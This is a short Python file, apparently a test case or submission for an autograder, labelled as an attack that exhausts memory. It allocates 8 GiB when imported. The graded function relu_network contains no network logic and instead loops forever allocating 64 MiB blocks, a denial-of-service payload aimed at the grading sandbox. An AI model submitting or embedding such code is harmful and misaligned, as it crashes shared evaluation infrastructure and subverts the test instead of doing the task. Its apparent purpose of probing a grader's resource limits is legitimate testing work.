# Attack: exhaust memory at top level and in a graded function.
_hog = bytearray(8 * 2**30)


def relu_network(x1, x2, beta=1.0):
    blocks = []
    while True:
        blocks.append(bytearray(64 * 2**20))
